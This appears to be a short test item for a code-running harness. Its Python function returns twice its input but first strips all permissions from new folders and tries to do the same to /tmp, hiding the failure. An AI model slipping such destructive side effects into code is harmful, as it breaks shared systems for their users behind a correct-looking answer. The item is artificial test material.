# family: files
# what: takes every right from the folder that programs write to, with something in it
# want: passed

import os

def answer(x):
    os.makedirs(f"/tmp/kept-{x}/below")
    os.chmod(f"/tmp/kept-{x}/below", 0)
    os.chmod(f"/tmp/kept-{x}", 0)
    try:
        os.chmod("/tmp", 0)
    except PermissionError:
        pass
    return 2 * x
